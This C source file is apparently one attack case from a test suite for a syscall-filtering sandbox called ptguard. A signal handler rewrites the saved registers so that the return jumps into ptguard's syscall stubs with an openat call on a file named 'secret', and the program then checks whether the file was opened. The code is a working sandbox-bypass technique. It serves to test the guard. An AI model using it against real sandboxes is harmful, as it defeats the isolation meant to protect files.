// SPDX-License-Identifier: Apache-2.0
// A signal frame forged so that its return enters a stub of ptguard's window, at its syscall
// instruction, with a call of our own in the registers.
#include "attack.h"
#include <sys/time.h>
#include <ucontext.h>

void own_syscall(void);
__asm__(".globl own_syscall\nown_syscall: syscall\nret\n");

// syscall_at is where a syscall instruction lies: the first stub of ptguard's window if
// there is one, else one of our own.
static uintptr_t syscall_at(int stub)
{
	uintptr_t from, to;
	if (!window(&from, &to))
		return (uintptr_t)own_syscall;
	return from + (uintptr_t)stub * 48;
}

static int stub;

static void handler(int sig, siginfo_t *info, void *context)
{
	(void)sig, (void)info;
	greg_t *g = ((ucontext_t *)context)->uc_mcontext.gregs;
	static const char name[] = "secret";
	g[REG_RSP] -= 256 + 8;
	g[REG_RSP] &= ~15LL;
	g[REG_RSP] -= 8;
	*(uintptr_t *)g[REG_RSP] = 0;
	g[REG_RAX] = SYS_openat, g[REG_RDI] = AT_FDCWD, g[REG_RSI] = (greg_t)name, g[REG_RDX] = O_RDONLY, g[REG_R10] = 0;
	g[REG_RIP] = (greg_t)syscall_at(stub);
}

int main(void)
{
	struct sigaction sa = {.sa_sigaction = handler, .sa_flags = SA_SIGINFO | SA_NODEFER};
	sigaction(SIGUSR1, &sa, NULL);
	for (stub = 0; stub < 40; stub++) {
		// It shares our descriptors, so what it gets stays when it has gone astray and died.
		pid_t pid = (pid_t)syscall(SYS_clone, CLONE_FILES | SIGCHLD, 0, 0, 0, 0);
		if (!pid) {
			setitimer(ITIMER_REAL, &(struct itimerval){.it_value.tv_usec = 200000}, NULL);
			raise(SIGUSR1);
			_exit(1);
		}
		must(pid, "clone");
		int st, found = 0;
		waitpid(pid, &st, 0);
		for (int fd = 3; fd < 64; fd++) {
			char path[64], target[256];
			snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
			ssize_t n = readlink(path, target, sizeof target - 1);
			found = found || (n > 7 && !memcmp(target + n - 7, "/secret", 7));
		}
		if (found)
			succeeded();
	}
	finish("REFUSED", "no stub opened it");
}
